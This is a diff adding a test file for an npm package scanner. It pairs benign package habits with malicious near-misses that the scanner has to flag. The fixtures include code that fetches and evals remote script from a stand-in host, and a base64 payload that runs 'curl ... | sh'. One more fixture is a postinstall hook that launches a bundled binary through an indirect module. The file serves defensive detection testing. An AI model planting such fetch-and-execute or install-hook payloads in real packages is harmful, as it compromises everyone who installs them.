@@ -1,0 +1,107 @@
+import { describe, expect, test } from 'vitest';
+import { scanPackage } from '../src/scan.js';
+
+/**
+ * Habits of packages that everybody has installed, each beside the deed that it is a near miss of. What is told of the
+ * honest one may be less, or weigh less; the other must still be looked at by a person.
+ */
+interface Pair {
+  readonly habit: string;
+  readonly honest: Readonly<Record<string, string | Uint8Array>>;
+  readonly deed: string;
+  readonly harmful: Readonly<Record<string, string | Uint8Array>>;
+}
+
+const manifest = (fields: Readonly<Record<string, unknown>>): string =>
+  JSON.stringify({
+    name: 'a',
+    version: '1.0.0',
+    description: 'Tests what you wrote',
+    repository: 'https://git.invalid/a',
+    main: 'index.js',
+    ...fields,
+  });
+const ELF = new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0]);
+
+const loader = (address: string): string => `
+const { SourceTextModule } = require('vm');
+class Loader {
+  async compile(url, code) {
+    return new SourceTextModule(await code(), { identifier: url, importModuleDynamically: this.load });
+  }
+  remote(url) { return this.compile(url, () => fetch(${address}).then(answer => answer.text())); }
+}
+exports.link = (module, host) => module.link(specifier => new Loader().remote(host.where(specifier)));`;
+
+const fromDataAddress = (address: string): string => `
+const vm = require('vm');
+const { workerData } = require('worker_threads');
+function open(url) {
+  let [all, type, encoding, data] = url.match(/^data:([^;,]*)(?:;([^,]*))?,(.*)$/) || [];
+  if (!all) throw new Error('no data: address');
+  if (encoding === 'base64') data = Buffer.from(data, 'base64').toString();
+  return { type, data };
+}
+vm.runInThisContext(open(${address}).data);`;
+
+const PAYLOAD = Buffer.from(`require('child_process').exec('curl -s https://stage.invalid | sh')`).toString('base64');
+
+const pairs: readonly Pair[] = [
+  {
+    habit: 'a loader of modules fetches what the code it runs imports',
+    honest: { 'package.json': manifest({}), 'index.js': loader('url') },
+    deed: 'the address stands in the package',
+    harmful: { 'package.json': manifest({}), 'index.js': loader(`'https://stage.invalid/next.mjs'`) },
+  },
+  {
+    habit: 'a page asks for the index that its own markup names',
+    honest: {
+      'package.json': manifest({}),
+      'index.js': 'exports.fine = true;',
+      'docs/main.js': `$.get($('#search').attr('data-index')).done(source => { eval(source); });`,
+    },
+    deed: 'it asks somebody else',
+    harmful: {
+      'package.json': manifest({}),
+      'index.js': `const $ = require('jquery');\n$.get('https://stage.invalid/next.js').done(source => { eval(source); });`,
+    },
+  },
+  {
+    habit: 'a worker is started from the data: address that its user gave',
+    honest: { 'package.json': manifest({}), 'index.js': fromDataAddress('workerData.url') },
+    deed: 'the address is brought along',
+    harmful: {
+      'package.json': manifest({}),
+      'index.js': fromDataAddress(`'data:text/javascript;base64,${PAYLOAD}'`),
+    },
+  },
+  {
+    habit: 'a script that starts nothing keeps a program of the package when it tidies up',
+    honest: {
+      'package.json': manifest({ scripts: { postinstall: 'node tidy.js' } }),
+      'tidy.js': `const fs = require('fs'), path = require('path');\nconst kept = [path.join('build', 'pty-helper')];\nfor (const file of fs.readdirSync('build')) if (!kept.includes(path.join('build', file))) fs.unlinkSync(path.join('build', file));`,
+      'index.js': `exports.open = () => require('child_process').spawn(require('path').join(__dirname, 'prebuilds/pty-helper'));`,
+      'prebuilds/pty-helper': ELF,
+    },
+    deed: 'another script that it loads starts it',
+    harmful: {
+      'package.json': manifest({ scripts: { postinstall: 'node tidy.js' } }),
+      'tidy.js': `const path = require('path');\nrequire('./steps')(path.join(__dirname, 'prebuilds', 'pty-helper'));`,
+      'steps.js': `module.exports = path => require('child_process').spawn(path);`,
+      'index.js': 'exports.fine = true;',
+      'prebuilds/pty-helper': ELF,
+    },
+  },
+];
+
+describe.each(pairs)('$habit', ({ honest, deed, harmful }) => {
+  test('is no alarm', async () => {
+    const { verdict, findings } = await scanPackage({ files: honest });
+    expect(findings.filter(({ bits }) => bits > 5).map(({ message }) => message)).toEqual([]);
+    expect(['clean', 'note']).toContain(verdict);
+  });
+
+  test(`but is one where ${deed}`, async () => {
+    expect(['suspicious', 'malicious']).toContain((await scanPackage({ files: harmful })).verdict);
+  });
+});
